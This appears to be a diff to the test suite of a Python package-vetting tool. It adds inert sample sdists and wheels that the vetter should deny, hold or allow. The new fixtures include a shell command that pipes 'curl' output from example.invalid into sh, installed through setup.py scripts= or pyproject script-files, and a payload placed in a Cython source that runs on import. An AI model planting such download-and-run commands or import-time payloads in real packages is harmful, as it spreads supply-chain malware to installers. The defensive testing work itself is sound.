@@ -4,7 +4,8 @@ named like a popular project wherever a build or pip reads it, a start-up module
 from a wheel's ``.data/purelib``, a ``.pth`` folder outside site-packages, a checked ``.pyc``
 that Python loads in place of its source, and download-and-run scripts installed as
 commands in the shapes PowerShell, Windows' tools, VBScript and ``sh`` write them, and files
-installed under the prefix where systemd, cron, APT, the shell or pip run or trust them.
+installed under the prefix where systemd, cron, APT, the shell or pip run or trust them; an
+sdist's command named by ``scripts=`` whatever its suffix, and a payload in a Cython source.
 
 Each sample is inert (vetting only reads files; hosts are ``example.invalid``). The
 near-misses are what real packages ship: dependencies with markers, a ``.pth`` of their
@@ -36,6 +37,11 @@ POETRY = (
     "[tool.poetry.dependencies]\npython = '^3.9'\n"
 )
 PYPROJECT = "[project]\nname = 'evpkg'\nversion = '1.0'\n"
+DROPPER = "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n"
+CYTHONIZE = (
+    "from setuptools import setup\nfrom Cython.Build import cythonize\n"
+    "setup(name='evpkg', ext_modules=cythonize('evpkg/core.pyx'))\n"
+)
 
 Sample = tuple[str, bytes]
 
@@ -245,9 +251,45 @@ HELD: dict[str, Sample] = {
             "pip.conf": "[global]\nindex-url = https://example.invalid/simple\n",
         }
     ),
+    # 8. An sdist's command without a script's suffix, installed by ``scripts=``.
+    "shell-command-named-by-setup-py-scripts": tgz(
+        {"setup.py": SETUP.format("scripts=['bin/evcmd']"), "bin/evcmd": DROPPER}
+    ),
+    "shell-command-named-by-pyproject-script-files": tgz(
+        {
+            "pyproject.toml": PYPROJECT + "[tool.setuptools]\nscript-files = ['bin/evcmd']\n",
+            "bin/evcmd": DROPPER,
+        }
+    ),
+}
+
+DENIED: dict[str, Sample] = {
+    # 9. A payload moved into a Cython source that setup.py cythonizes: its module level
+    # runs when the built extension is imported.
+    "payload-in-a-plain-python-pyx": tgz({"setup.py": CYTHONIZE, "evpkg/core.pyx": EVIL}),
+    "payload-beside-cdef-functions-in-a-pyx": tgz(
+        {
+            "setup.py": CYTHONIZE,
+            "evpkg/core.pyx": "cimport cython\ncdef int twice(int x):\n    return 2 * x\n" + EVIL,
+        }
+    ),
 }
 
 ALLOWED: dict[str, Sample] = {
+    "cython-module-that-only-computes": tgz(
+        {
+            "setup.py": CYTHONIZE,
+            "evpkg/core.pyx": "cimport cython\nimport math\ncdef class Box:\n    cdef int n\n"
+            "    def size(self):\n        return self.n\n"
+            "def area(r):\n    return math.pi * r * r\n",
+        }
+    ),
+    "shell-command-that-only-runs-the-package": tgz(
+        {
+            "setup.py": SETUP.format("scripts=['bin/evcmd']"),
+            "bin/evcmd": '#!/bin/sh\nexec python3 -m evpkg "$@"\n',
+        }
+    ),
     "manual-page-in-share": whl({**INIT, "evpkg-1.0.data/data/share/man/man1/ev.1": ".TH EV 1\n"}),
     "jupyter-config-and-kernel": whl(
         {
@@ -345,6 +387,7 @@ ALLOWED: dict[str, Sample] = {
 
 def _cases() -> list[object]:
     return [
+        *(pytest.param(s, Outcome.DENY, id=f"deny-{n}") for n, s in sorted(DENIED.items())),
         *(pytest.param(s, Outcome.HOLD, id=f"hold-{n}") for n, s in sorted(HELD.items())),
         *(pytest.param(s, Outcome.ALLOW, id=f"allow-{n}") for n, s in sorted(ALLOWED.items())),
     ]
